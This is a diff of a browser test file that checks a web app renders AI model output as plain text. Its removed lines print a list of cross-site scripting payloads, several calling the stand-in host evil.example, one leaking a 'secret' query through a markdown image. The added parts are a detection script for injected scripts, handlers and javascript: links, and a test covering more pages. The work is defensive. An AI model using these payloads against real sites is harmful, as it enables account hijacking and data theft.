@@ -5,6 +5,7 @@ from typing import Any
 import pytest
 
 from tests.browser.conftest import Visit
+from tests.browser.payloads import EVIL, PAYLOADS
 from tests.conftest import ARTICLE
 from tests.support.answers import Answers
 from tests.support.chromium import Visitor
@@ -13,30 +14,6 @@ from tests.support.precis import Account, Precis
 
 pytestmark = pytest.mark.browser
 
-EVIL = "evil.example"
-PAYLOADS = [
-    f"<script>alert(1);fetch('http://{EVIL}/1')</script>",
-    "</script><script>alert(2)</script>",
-    f'<img src="http://{EVIL}/3.png" onerror="alert(3)">',
-    "<img src=x onerror=alert(4)>",
-    "<svg onload=alert(5)><animate onbegin=alert(5) attributeName=x dur=1s></svg>",
-    f'<svg><use href="http://{EVIL}/6.svg#x"/><image href="http://{EVIL}/6.png"/></svg>',
-    f'<div hx-get="http://{EVIL}/7" hx-trigger="load" hx-target="body">seven</div>',
-    '<div data-hx-get="/session/new" data-hx-trigger="load" hx-on:load="alert(8)">eight</div>',
-    '<hx-partial hx-target="body" hx-swap="innerHTML"><h1>Owned</h1></hx-partial>',
-    '</hx-partial></section><div hx-sse:connect="/documents/events?ids=1" hx-trigger="load">ten</div>',
-    '<form action="/documents/1/delete" method="post" hx-post="/session/delete" hx-trigger="load"><button>Go</button></form>',
-    f"![image](http://{EVIL}/12.png?q=secret)",
-    f"[press here](http://{EVIL}/13) and [this](javascript:alert(13)) and <http://{EVIL}/13b>",
-    f"[ref]: http://{EVIL}/14 'x'",
-    f'<iframe src="http://{EVIL}/15" srcdoc="<script>alert(15)</script>"></iframe><object data="x"></object>',
-    f'<style>@import "http://{EVIL}/16.css"; body {{ display: none }}</style><link rel="stylesheet" href="http://{EVIL}/16b.css">',
-    f'<base href="http://{EVIL}/"><meta http-equiv="refresh" content="0;url=http://{EVIL}/17">',
-    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(18)&gt;\">",
-    "<a href=\"jav&#x09;ascript:alert(19)\" onclick=alert(19) style=\"position:fixed;inset:0\" autofocus tabindex=1 onfocus=alert(19)>x</a>",
-    "<details open ontoggle=alert(20)><template><script>alert(20)</script></template><!-- ",
-    "`<img src=x onerror=alert(21)>` {{ 7*7 }} ${7*7} <%= 7*7 %>",
-]  # fmt: skip
 HIDDEN = "reversed \u202edrow\u202c tagged \U000e0041\U000e0042 zero\u200bwidth"
 ATTACK = (
     "\n".join(f"- marker-{number:02} {payload}" for number, payload in enumerate(PAYLOADS, 1))
@@ -60,12 +37,25 @@ STRANGE = """
   ...(/^(P|BR|UL|OL|LI|STRONG|EM|S|CODE|PRE|BLOCKQUOTE|H3|H4|TABLE|THEAD|TBODY|TR|TH|TD)$/.test(element.tagName) ? [] : [element.tagName]),
 ])
 """
-LIVE = "() => [...document.querySelectorAll('*')].flatMap(e => [...e.attributes]).filter(a => /^(data-)?hx-/.test(a.name)).length"
+# What of any page of ours an attack could have made: what runs, loads or moves by itself. Links of a document are its own.
+FOREIGN = """
+() => [...document.querySelectorAll('main *')].flatMap(element => [
+  ...(/^(SCRIPT|IFRAME|OBJECT|EMBED|BASE|META|STYLE|LINK|MATH|TEMPLATE|IMG|VIDEO|AUDIO|MARQUEE|DIALOG|HX-PARTIAL|IMAGE|PORTAL)$/i
+    .test(element.tagName) && !element.closest('noscript') ? [element.tagName] : []),
+  ...[...element.attributes].filter(a => /^(on|style$|srcdoc$|formaction$|(data-)?hx-on)/.test(a.name)
+    || /^(data-)?(hx|sse)-/.test(a.name) && /evil|alert[(]|session|js:/.test(a.value)
+    || /^(href|src|action)$/.test(a.name) && /^\\s*(javascript|data|vbscript):/i.test(a.value)
+  ).map(a => `${element.tagName} ${a.name}=${a.value}`),
+])
+"""
+LIVE = """() => [...document.querySelectorAll('section[data-status], section[data-status] *')]
+  .flatMap(e => [...e.attributes]).filter(a => /^(data-)?hx-/.test(a.name)).length"""
 
 
 def harmless(visitor: Visitor) -> None:
     """Assert that nothing of the attack has become more than text."""
     assert visitor.page.evaluate(STRANGE) == []
+    assert visitor.page.evaluate(FOREIGN) == []
     assert visitor.page.locator("body").is_visible()
     assert visitor.page.get_by_role("heading", name="Owned").count() == 0
     assert visitor.problems == []
@@ -92,7 +82,7 @@ def test_nothing_that_a_model_says_is_more_than_text(
     for visitor in (reader, second):
         visitor.sees("complete", words=f"marker-{len(PAYLOADS)}")
         harmless(visitor)
-        assert visitor.page.evaluate(LIVE) < live
+        assert visitor.page.evaluate(LIVE) <= live
         shown = visitor.text.inner_text()
         assert [n for n in range(1, len(PAYLOADS) + 1) if f"marker-{n:02}" not in shown] == []
         assert not set(shown) & set("\u202e\u202c\u200b\U000e0041\U000e0042")
@@ -101,3 +91,35 @@ def test_nothing_that_a_model_says_is_more_than_text(
     second.open("/")
     second.page.get_by_role("link", name="Attack").wait_for()
     assert second.page.locator(".row__gist *").count() == 0
+
+
+def test_nothing_of_it_is_more_than_text_on_any_other_page(
+    reader: Visitor, visit: Visit, scripted: Precis, bob: Account, answers: Answers
+) -> None:
+    title = "Elsewhere <svg onload=alert(0)>"
+    answers.give(title, Script.words(ATTACK))
+    reader.open("/documents/new")
+    reader.page.get_by_label("Markdown", exact=False).check()
+    path = reader.save(title, SOURCE)
+    reader.sees("complete", words="marker-60")
+    reader.edit(path, SOURCE.replace("marker", "changed") + "\n\n" + "\n\n".join(reversed(PAYLOADS)))
+    reader.sees("complete", words="marker-60")
+    second = visit(scripted.address, bob)
+    for page in ("", "?typed", "?whole", "/revisions", "/revisions/1", "/revisions/2/changes", "/summary"):
+        for visitor in (reader, second):
+            visitor.open(path + page)
+            assert visitor.page.evaluate(FOREIGN) == [], page
+            assert visitor.problems == [], page
+    for page in ("/edit", "/summary/words/new"):
+        reader.open(path + page)
+        assert reader.page.evaluate(FOREIGN) == [], page
+    reader.open(path)
+    reader.page.emulate_media(media="print")
+    assert reader.page.evaluate(FOREIGN) == []
+    reader.page.emulate_media(media="screen")
+    copy = reader.page.request.get(path + "/markdown")
+    assert copy.headers["content-type"].startswith("text/markdown")
+    assert copy.headers["content-disposition"].startswith("attachment")
+    assert copy.headers["x-content-type-options"] == "nosniff"
+    reader.page.get_by_role("link", name="Edit", exact=True).first.click()
+    reader.page.get_by_label("Title").wait_for()
